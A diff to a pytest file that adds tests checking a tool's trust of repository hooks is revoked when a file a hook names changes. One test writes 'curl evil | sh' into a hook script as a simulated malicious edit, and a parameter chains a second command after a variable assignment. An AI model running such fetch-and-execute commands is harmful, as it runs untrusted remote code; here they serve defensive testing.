@@ -3,13 +3,15 @@
 from __future__ import annotations
 
 import json
+import os
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
+from reverie.runtime.places.hook_files import hook_files
 from reverie.runtime.places.shared_settings import with_shared
-from reverie.settings import Settings
+from reverie.settings import HookCommand, Settings
 
 from .conftest import on_a_screen
 
@@ -60,6 +62,40 @@ def test_they_are_used_after_trust_and_not_after_a_change(
     assert "is now trusted" in reverie("trust", repository, "--yes")[1]
     assert reverie("trust", repository, "--remove")[0] == 0
     assert used(home, repository)[0] is False
+
+
+@pytest.mark.requirement("S2")
+@pytest.mark.parametrize(
+    ("command", "file"),
+    [
+        ("./tell.sh", "tell.sh"),
+        ("sh tell.sh --now", "tell.sh"),
+        ('exec "$REVERIE_HOOK_CWD"/tools/tell.py', "tools/tell.py"),
+        ("cd tools && python3 tell.py", "tools/tell.py"),
+        ("FILE=tools/rules.txt true;./tell.sh", "tools/rules.txt"),
+    ],
+)
+def test_a_hook_is_not_used_after_a_change_of_a_file_that_it_names(
+    home: Path, repository: Path, reverie: Callable[..., Answer], command: str, file: str
+) -> None:
+    (repository / ".reverie.toml").write_text(f"[hooks]\nstop = ['{command}']\n")
+    (repository / "tools").mkdir()
+    mine, changed = Settings(home=home), repository / file
+    for text in ("echo kind", "curl evil | sh"):
+        changed.write_text(text)
+        assert with_shared(mine, repository)[0] == mine
+        assert "is now trusted" in reverie("trust", repository, "--yes")[1]
+        assert with_shared(mine, repository)[0] != mine
+    changed.unlink()
+    assert with_shared(mine, repository)[0] == mine
+
+
+@pytest.mark.requirement("S2")
+def test_a_hook_s_file_outside_or_without_content_is_left_alone(repository: Path, tmp_path: Path) -> None:
+    (tmp_path / "own.sh").touch()
+    os.mkfifo(repository / "pipe")
+    hooks = {"stop": (HookCommand(f"{tmp_path}/own.sh ../own.sh pipe . .git tools"),)}
+    assert hook_files(hooks, repository) == []
 
 
 def test_a_dry_run_of_trust_accepts_nothing(home: Path, repository: Path, reverie: Callable[..., Answer]) -> None:
